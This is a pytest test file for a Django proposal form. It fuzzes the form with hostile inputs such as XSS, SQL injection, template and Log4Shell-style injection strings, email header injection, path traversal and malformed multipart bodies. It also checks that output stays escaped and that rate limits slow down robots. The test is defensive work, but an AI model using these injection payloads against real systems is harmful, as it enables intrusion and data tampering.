"""What robots and rascals send: never a fault of ours, never a header of theirs, never anything but text."""

import itertools
import os
import random
import unicodedata
from typing import Any

import pytest
import time_machine
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from django.utils.datastructures import MultiValueDict
from hypothesis import given, settings
from hypothesis import strategies as st

from proposals.forms.proposal_form import ProposalForm
from proposals.models import Proposal, ProposalState
from proposals.queries.proposal_form import themes_in_use
from proposals.services import limits
from proposals.services.limits import Limit
from proposals.services.receiving import fingerprint
from tests.builders import make_principal
from tests.proposals.sending import filled, send

pytestmark = pytest.mark.django_db
FORM = "/propose/"
LONG = "A" * 1_000_000
TRICKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE proposals_proposal; --",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://x/a}",
    '=HYPERLINK("http://x")',
    "%(user)s %s %n {0} {organisation}",
    "Oy\r\nBcc: uhri@toinen.fi",
    "Oy%0d%0aSet-Cookie:x=y",
    "\u202egnp.exe\u202c",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "\x00\x01\x02\x7f\x85",
    "\ud800\udfff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 200,
    "\u0430\u0440\u0440\u04cf\u0435",
    "😀👩‍👩‍👧‍👦" * 50,
    "ﷺ﷽" * 100,
    "A" * 300,
    LONG,
    "\n" * 5_000,
    "../../../etc/passwd",
    "010180-9026",
    "javascript:alert(1)",
    "mikko@yritys.fi\nBcc: uhri@toinen.fi",
    "+358 40 123 4567;ext=<b>",
    "null",
    "-1",
    "9" * 400,
    "0112038-9",
    "",
    " \t\n\u3000\u00a0",
)
SMALL = [trick for trick in TRICKS if trick != LONG]
FIELDS = ("organisation_name", "text", "reach", "contact_name", "business_id", "horizon", "themes", "education_fields")
# HOSTILE=10000 sends as many as product.md asks for; that takes minutes.
SENT = int(os.environ.get("HOSTILE", "150"))
HIDDEN = ("key", "language", "unit", "field", "campaign", "homepage", "show_in")


def hostile(count: int) -> list[dict[str, Any]]:
    """Forms of tricks, mixed with what is right so that many get far; always the same ones."""
    dice = random.Random(20261122)  # noqa: S311 (no secret)
    forms = []
    for number in range(count):
        form: dict[str, Any] = {
            "organisation_name": f"Oy {number}",
            "text": "Jotain",
            "reach": dice.choice(["a@b.fi", "0401234567"]),
        }
        for name in dice.sample(FIELDS, dice.randint(1, 3)):
            trick = dice.choice(TRICKS if number < 100 else SMALL)
            form[name] = trick if trick == LONG else dice.choice(("", "Oy ")) + trick
        forms.append(form)
    return forms


def in_utf8(value: str) -> str:
    """As a browser could send it: halves of characters cannot be."""
    return value.encode("utf-8", "replace").decode()


def test_ten_thousand_hostile_forms_are_judged_without_a_fault() -> None:
    themes, taken = themes_in_use(), 0
    for values in hostile(10_000):
        form = ProposalForm(values, MultiValueDict(), themes=themes, taught=[])
        if not form.is_valid():
            assert form.errors.as_data()
            continue
        taken += 1
        received = form.received()["values"]
        assert fingerprint(received) != form.submission_key("n")
        for name, value in received.items():
            unseen = {unicodedata.category(sign) for sign in value.replace("\n", "")} & {"Cc", "Cf", "Cs"}
            assert (unseen, "\n" in value and name != "text") == (set(), False), (name, value[:50])
    assert 500 < taken < 9_000


def test_hostile_forms_are_answered_and_shown_as_text(monkeypatch: pytest.MonkeyPatch, sign_in: Any) -> None:
    monkeypatch.setattr(limits, "LIMITS", ())
    client, statuses = Client(), set()
    pairs = list(itertools.product((*FIELDS, *HIDDEN), SMALL))
    for name, trick in random.Random(6).choices(pairs, k=SENT):  # noqa: S311 (no secret)
        answer = client.post(FORM, filled(**{name: in_utf8(trick)}))
        statuses.add(answer.status_code)
        text = answer.content.decode()
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        assert "Set-Cookie:x" not in str(answer.headers)
    assert statuses == {200, 302}
    assert Proposal.objects.count() > 30
    for message in mail.outbox:
        assert "Bcc" not in message.message()
    # What came of it is shown to staff as text, too.
    staff = sign_in(make_principal())
    for proposal in Proposal.objects.filter(organisation_name__contains="<")[:3]:
        page = staff.get(f"/proposals/{proposal.pk}/").content.decode()
        assert "<script>alert" not in page


@settings(max_examples=12)
@given(st.dictionaries(st.sampled_from((*FIELDS, *HIDDEN)), st.text(max_size=400), max_size=6))
def test_any_text_in_any_field_is_answered(values: dict[str, str]) -> None:
    clean = {name: in_utf8(value) for name, value in values.items()}
    assert Client().post(FORM, {**filled(), **clean}).status_code in (200, 302, 429)


MULTIPART = "multipart/form-data; boundary=X"


@pytest.mark.parametrize(
    ("body", "content_type", "expected"),
    [
        (b"", MULTIPART, {200}),
        (b"--X", MULTIPART, {200, 400}),
        (b'--X\r\nContent-Disposition: form-data; name="text"\r\n\r\nabc', MULTIPART, {200, 400}),
        (b"a=b", "multipart/form-data", {400}),
        (b"a=b", "multipart/form-data; boundary=", {400}),
        (b"a=b", "multipart/form-data; boundary=" + "x" * 300, {200, 400}),
        (b"text=abc", "application/x-www-form-urlencoded; charset=hex", {200}),
        (b"text=abc", "application/x-www-form-urlencoded; charset=utf-7", {200}),
        (
            b'--X\r\nContent-Disposition: form-data; name="text"\r\n\r\nabc\r\n--X--',
            f"{MULTIPART}; charset=rot13",
            {200},
        ),
        (b'{"text": "abc"}', "application/json", {200}),
        (b"<a/>", "text/xml", {200}),
        (b"text=%ff%fe%00&reach=%c3%28", "application/x-www-form-urlencoded", {200}),
        ("text=päätalo".encode("latin-1"), "application/x-www-form-urlencoded", {200}),
        (b"&".join(b"a%d=1" % number for number in range(1_100)), "application/x-www-form-urlencoded", {400}),
        (b"text=" + b"a" * 1_000_000, "application/x-www-form-urlencoded", {200}),
        (b"text=" + b"a" * 3_000_000, "application/x-www-form-urlencoded", {400}),
        (
            b"key=" + b"a" * 100_000 + b"&text=a&organisation_name=b&reach=a@b.fi",
            "application/x-www-form-urlencoded",
            {200},
        ),
    ],
)
def test_bodies_that_no_browser_sends_are_answered(body: bytes, content_type: str, expected: set[int]) -> None:
    answer = Client().generic("POST", FORM, body, content_type)
    assert answer.status_code in expected
    assert Proposal.objects.count() == 0


@pytest.mark.parametrize("method", ["put", "delete", "patch", "options"])
def test_other_ways_of_asking_are_refused(method: str) -> None:
    assert getattr(Client(), method)(FORM).status_code == 405


def test_a_robot_is_slowed_and_nobody_else_is(monkeypatch: pytest.MonkeyPatch) -> None:
    assert limits.LIMITS[0] == Limit("address", 60, 600)
    monkeypatch.setattr(limits, "LIMITS", (Limit("address", 6, 600), Limit("email", 3, 3600)))
    robot, others = Client(REMOTE_ADDR="10.6.6.6"), Client(REMOTE_ADDR="10.7.7.7")
    with time_machine.travel(timezone.now(), tick=False):
        answers = [robot.post(FORM, filled(reach=f"x{number}@uhri{number}.example")) for number in range(9)]
        assert [answer.status_code for answer in answers] == [302] * 6 + [429] * 3
        refused = answers[-1]
        assert 0 < int(refused["Retry-After"]) <= 600
        assert all(word in refused.content.decode() for word in ("Kirjoittamasi on tallessa", "x8@uhri8.example"))
        assert Proposal.objects.count() == 6
        assert others.post(FORM, filled()).status_code == 302
        # The limit of a victim's address is told with a way out, and holds for its spellings.
        victims = [others.post(FORM, filled(reach=f"u.hri+{number}@posti.example")) for number in range(4)]
        assert [answer.status_code for answer in victims] == [302, 302, 302, 429]
        assert "anna tilalle puhelinnumero" in victims[-1].content.decode()
    assert Proposal.objects.filter(state=ProposalState.RECEIVED).count() == 10


def test_a_file_of_a_refused_form_is_asked_for_again(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "_recent", lambda _key, _since: [timezone.now().timestamp()])
    monkeypatch.setattr(limits, "LIMITS", (Limit("address", 1, 60),))
    answer = send(files=[SimpleUploadedFile("a.pdf", b"%PDF-1.7")])
    assert (answer.status_code, "Valitse liitteet uudelleen" in answer.content.decode()) == (429, True)
